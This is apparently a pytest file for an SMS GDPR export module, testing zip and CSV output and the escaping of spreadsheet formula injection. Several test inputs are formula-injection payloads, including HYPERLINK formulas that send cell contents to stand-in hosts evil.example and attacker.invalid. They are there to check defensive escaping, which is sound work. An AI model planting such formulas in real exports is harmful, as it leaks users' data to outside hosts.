import csv
import io
import json
import zipfile
from datetime import datetime
from pathlib import Path

import pytest

from sms_gdpr_compliance.export import build_export_zip, escape_csv_formula, rows_to_csv
from sms_gdpr_compliance.lists import read_lead_list

FORMULAS = Path(__file__).parent / "data" / "formulas.csv"


def test_zip_holds_json_and_csv():
    sections = {
        "contacts": [{"id": 1, "name": "Zoé Martin", "mobile": "+33612345678", "opt_out": True}],
        "inbound_messages": [{"body": "STOP", "received": datetime(2026, 3, 26, 10, 0)}],
        "leads": [],
    }
    content = build_export_zip(sections, metadata={"request": "RR/1"})
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert sorted(archive.namelist()) == ["contacts.csv", "data.json", "inbound_messages.csv", "leads.csv"]
        document = json.loads(archive.read("data.json"))
        contacts = list(csv.DictReader(io.StringIO(archive.read("contacts.csv").decode())))
        inbound = list(csv.DictReader(io.StringIO(archive.read("inbound_messages.csv").decode())))
    assert document["metadata"] == {"request": "RR/1"}
    assert document["contacts"][0]["name"] == "Zoé Martin"
    assert document["contacts"][0]["mobile"] == "+33612345678", "JSON keeps the exact value"
    assert document["inbound_messages"][0]["received"] == "2026-03-26T10:00:00"
    assert document["leads"] == []
    assert contacts == [{"id": "1", "name": "Zoé Martin", "mobile": "'+33612345678", "opt_out": "True"}]
    assert inbound == [{"body": "STOP", "received": "2026-03-26T10:00:00"}]


def test_csv_header_is_union_of_keys():
    text = rows_to_csv([{"a": 1}, {"b": [1, 2], "a": None}])
    assert text.splitlines() == ["a,b", "1,", ',"[1, 2]"']


def test_csv_of_no_rows():
    assert rows_to_csv([]) == "\n"


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+33612345601", "'+33612345601"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("Claire Martin", "Claire Martin"),
        ("a=1", "a=1"),
        (" =1+1", " =1+1"),
        (12, "12"),
        (None, ""),
        (False, ""),
    ],
)
def test_escape_csv_formula(value, expected):
    assert escape_csv_formula(value) == expected


def test_formula_cells_of_list_escaped():
    rows = read_lead_list(FORMULAS.read_bytes(), "formulas.csv", "FR").rows
    cells = [cell for row in rows for cell in (row.company, row.contact_name, row.source_detail, row.number_cell)]
    assert '=HYPERLINK("http://evil.example/?"&A1,"x")' in cells, cells
    for cell in cells:
        escaped = escape_csv_formula(cell)
        assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r")), escaped
        assert escaped.removeprefix("'") == cell


def test_export_csv_escapes_formulas():
    rows = [{"name": '=HYPERLINK("http://attacker.invalid/?"&A1)', "note": "@SUM(1)", "count": -3}]
    text = rows_to_csv(rows)
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["name"].startswith("'=")
    assert row["note"] == "'@SUM(1)"
    assert row["count"] == "-3", "numbers are values, not formulas"
